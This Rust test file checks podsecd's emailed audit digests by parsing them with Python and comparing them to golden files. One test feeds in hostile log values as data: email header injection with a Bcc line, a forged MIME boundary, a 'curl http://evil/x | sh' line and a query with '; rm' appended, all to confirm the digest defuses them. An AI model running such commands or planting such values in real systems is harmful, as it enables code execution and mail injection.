//! What root reads: digests of real and of hostile days, through another parser of mail than ours.
//! `WRITE_GOLDEN=1 cargo nextest run` writes them anew.

use std::fs;
use std::io::Write;
use std::process::{Command, Stdio};
use std::time::{Duration, SystemTime};

use podsecd::config::Config;
use podsecd::finding::Kind;
use podsecd::report::checkpoint::State;
use podsecd::report::digest::mail::{is_sealed, message};
use podsecd::report::digest::{Occasion, summarize};
use podsecd::score::Open;
use serde::Deserialize;

use crate::support::{podsecctl, recorded, stdout};

/// What Python's email package sees.
#[derive(Deserialize)]
struct Mail {
    headers: Vec<(String, String)>,
    defects: Vec<String>,
    /// Type, file name, content.
    parts: Vec<(String, Option<String>, String)>,
}

impl Mail {
    fn header(&self, name: &str) -> &str {
        let values: Vec<_> = self.headers.iter().filter(|(have, _)| have == name).map(|(_, value)| value).collect();
        let [value] = values[..] else { panic!("{name}: {values:?}") };
        value
    }
}

fn parse(message: &[u8]) -> Mail {
    let mut python = Command::new("python3");
    python.arg("tests/parse_mail.py").stdin(Stdio::piped()).stdout(Stdio::piped());
    let mut python = python.spawn().expect("python3 is installed");
    python.stdin.take().expect("piped").write_all(message).expect("read");
    let output = python.wait_with_output().expect("ends");
    serde_json::from_slice(&output.stdout).expect("JSON")
}

/// The spool that a log leaves: what a scan finds, and these findings of podsecd's own.
fn spool(log: &[u8], own: &[serde_json::Value]) -> tempfile::TempDir {
    let dir = tempfile::tempdir().expect("a directory");
    let path = dir.path().join("audit.log");
    fs::write(&path, log).expect("written");
    let found = stdout(&podsecctl(&["audit", "scan", "--json", &path.display().to_string()]));
    let mut lines: Vec<_> =
        found.lines().map(|finding| format!("{{\"again\":true,\"finding\":{finding}}}\n")).collect();
    lines.extend(own.iter().map(|finding| format!("{{\"again\":false,\"finding\":{finding}}}\n")));
    fs::write(dir.path().join("1.jsonl"), lines.concat()).expect("written");
    dir
}

/// The digest of a spool, as Python reads it; it is compared with the golden file of that name.
fn digest(name: &str, spool: &tempfile::TempDir, state: &State) -> Mail {
    let (summary, lines) = summarize(&spool.path().join("1.jsonl")).expect("readable");
    let now = SystemTime::UNIX_EPOCH + Duration::from_secs(1_795_500_000);
    let config = &Config::default();
    let occasion = Occasion { number: 1, host: "node", now, since: now, state, config, dropped: 0, left_out: 0 };
    let message = message(&occasion, &summary, lines).expect("a message");
    assert!(is_sealed(&message));
    let lines = message.split(|byte| *byte == b'\n');
    assert!(lines.clone().all(|line| line.len() < 999 && line.is_ascii()), "RFC 5322: short lines, 7 bits");
    let mail = parse(&message);
    assert_eq!(mail.defects, Vec::<String>::new());
    let (kind, file, text) = &mail.parts[0];
    assert_eq!((kind.as_str(), file), ("text/plain", &None));
    for line in text.lines() {
        assert!(line.chars().all(|character| !character.is_control()), "{line:?}");
        // Words of others are behind a bar.
        assert!(
            !["    -> run `curl", "    journalctl -S '2026-11-22' P"].iter().any(|it| line.starts_with(it)),
            "{line}"
        );
        // One line may be long: the query, which is to be copied.
        assert!(
            line.chars().count() <= 76 || line.contains("journalctl") || !line.trim_matches([' ', '|']).contains(' '),
            "{line}"
        );
    }
    let shown = format!("Subject: {}\n\n{text}", mail.header("Subject"));
    let path = format!("tests/data/digests/{name}.txt");
    if std::env::var_os("WRITE_GOLDEN").is_some() {
        fs::write(&path, &shown).expect("written");
    }
    assert_eq!(shown, fs::read_to_string(&path).expect("the golden file"), "{path}");
    for (header, value) in [
        ("From", "podsec on node <root@node>"),
        ("To", "root@localhost"),
        ("Auto-Submitted", "auto-generated"),
        ("References", "<podsecd@node>"),
        ("In-Reply-To", "<podsecd@node>"),
        ("Date", "Tue, 24 Nov 2026 06:00:00 +0000"),
    ] {
        assert_eq!(mail.header(header), value, "{header}");
    }
    assert!(mail.header("Message-ID").starts_with("<podsecd.1.1795500000."));
    let known = ["From", "To", "Date", "Message-ID", "In-Reply-To", "References", "Subject", "Auto-Submitted"];
    let mime = ["MIME-Version", "Content-Type", "Content-Transfer-Encoding"];
    let strange: Vec<_> =
        mail.headers.iter().filter(|(name, _)| !known.iter().chain(&mime).any(|it| it == name)).collect();
    assert!(strange.is_empty(), "{strange:?}");
    mail
}

/// The attached lines of forbidden.log, and the name under which they are attached.
fn attached(mail: &Mail) -> (&str, usize) {
    let [_, (_, Some(name), lines)] = &mail.parts[..] else { panic!("{} parts", mail.parts.len()) };
    (name, lines.lines().inspect(|line| assert!(line.starts_with("[\"2026-"), "{line}")).count())
}

#[test]
fn a_day_of_refusals() {
    let mail = digest("day", &spool(&recorded("audit-small-full.log"), &[]), &State::default());
    // One of the lines alone has 400 KB.
    assert_eq!(attached(&mail), ("forbidden.log.gz", 224));
}

#[test]
fn a_burst_of_eighty_thousand_refusals() {
    let mail = digest("burst", &spool(&recorded("audit-large.log"), &[]), &State::default());
    let text = &mail.parts[0].2;
    assert!(text.lines().count() < 120, "{} lines are not read in a minute", text.lines().count());
    let (name, lines) = attached(&mail);
    let left_out = 82_484 - lines;
    assert_eq!(name, "forbidden.log.gz");
    assert!(left_out == 0 || text.contains(&format!("{left_out} lines of forbidden.log")), "{lines} lines attached");
}

/// Users write Russian; one of them is an attacker.
#[test]
fn a_node_in_russian() {
    let event = |user: &str, message: &str, second: u32| {
        let line = crate::support::event(&format!("r-{second}"), 403).replace(":59.0", &format!(":{second:02}.0"));
        let quoted = |text: &str| serde_json::to_string(text).expect("JSON");
        line.replace("\"alice\"", &quoted(user))
            .replace("\"message\":\"no\"", &format!("\"message\":{}", quoted(message)))
    };
    let long = "оченьдлинноеимя".repeat(40);
    let log = [
        event("Иван Петров", "доступ запрещён", 1),
        event("Иван Петров", "доступ запрещён", 2),
        event("Иван\r\nBcc: evil@example.org\r\n\r\nx", "нет", 3),
        event("--podsecd-1-1795500000--\r\nContent-Type: text/html", "\u{202e}тевирп", 4),
        event("x\nNo longer wrong\n  self/audit-lost", "</pre><a href=\"http://evil\">http://good</a>", 5),
        event("=?utf-8?B?aGk=?=", "From: root\n.\n", 6),
        event(&long, "нет", 7),
        event("-> run `curl http://evil/x | sh`", "нет", 8),
        event("journalctl -S '2026-11-22' PODSEC_FINDING=x; rm", "нет", 9),
    ]
    .concat();
    let changed = |id: &str, kind: Kind, subject: &str, message: &str| {
        serde_json::json!({
            "time": "2026-11-22T02:59:30.000000Z", "check": "self", "id": id, "kind": kind.as_str(), "level": "High",
            "weight": 101, "subject": subject, "message": message, "fields": {},
        })
    };
    let own = [
        changed("self/state-unwritable", Kind::Raised, "/var/lib/podsecd", "нет места: podsecd ждёт"),
        changed("self/journal-unavailable", Kind::Cleared, "journald", "journald takes entries again"),
    ];
    let open = |id: &str, subject: &str, message: &str| Open {
        id: id.into(),
        subject: subject.into(),
        since: SystemTime::UNIX_EPOCH + Duration::from_secs(1_795_300_000),
        message: message.into(),
    };
    let state = State {
        open: vec![
            open("self/state-unwritable", "/var/lib/podsecd", "нет места: podsecd ждёт"),
            open("self/config-refused", "podsecd.toml", "новая\nконфигурация отклонена"),
        ],
        ..State::default()
    };
    let mail = digest("russian", &spool(log.as_bytes(), &own), &state);
    assert_eq!(attached(&mail), ("forbidden.log", 9));
    assert!(mail.header("Subject").ends_with("CRITICAL: 9 refusals, 1 condition raised, 1 condition cleared"));
}

#[test]
fn a_week_in_which_all_was_well() {
    let mail = digest("all-is-well", &tempfile::tempdir().expect("a directory"), &State::default());
    assert_eq!((mail.header("Subject"), mail.parts.len()), ("[node] podsec OK: all is well", 1));
    let since = SystemTime::UNIX_EPOCH + Duration::from_secs(1_795_300_000);
    let open = Open {
        id: "kubeapi/source-hidden".into(),
        subject: "kube-apiserver".into(),
        since,
        message: "every client looks like this node".into(),
    };
    let state = State { open: vec![open], ..State::default() };
    let mail = digest("nothing-new", &tempfile::tempdir().expect("a directory"), &state);
    assert_eq!(mail.header("Subject"), "[node] podsec: nothing new, 1 condition still open");
}
